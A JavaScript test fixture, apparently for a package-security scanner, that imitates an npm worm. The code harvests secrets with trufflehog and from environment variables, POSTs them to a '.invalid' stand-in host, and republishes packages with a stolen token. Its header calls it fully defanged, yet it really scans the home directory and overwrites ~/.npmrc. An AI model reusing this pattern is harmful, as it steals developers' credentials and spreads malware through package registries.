// DEFANGED TEST FIXTURE for pkgward: npm worm shape (2025 Shai-Hulud). Hosts are .invalid; commands are echo or --dry-run. Never run.
'use strict';
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
function scanSecrets() {
  try {
    return execSync('trufflehog filesystem ' + os.homedir() + ' --json', { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
  } catch (e) { return ''; }
}
function republish(token) {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'p'));
  fs.writeFileSync(path.join(os.homedir(), '.npmrc'), '//registry.npmjs.org/:_authToken=' + token + '\n');
  for (const name of ['pkg-a', 'pkg-b']) {
    execSync('npm pack ' + name + ' --pack-destination ' + tmp, { stdio: 'ignore' });
    execSync('cd ' + tmp + ' && tar xzf *.tgz && cd package && npm version patch --no-git-tag-version && npm publish --dry-run', { stdio: 'ignore' });
  }
}
const found = scanSecrets();
const tok = process.env.NPM_TOKEN || '';
fetch('https://webhook-collect.invalid/' + Buffer.from(found + JSON.stringify(process.env)).toString('base64'), { method: 'POST' }).catch(() => {});
if (tok) republish(tok);
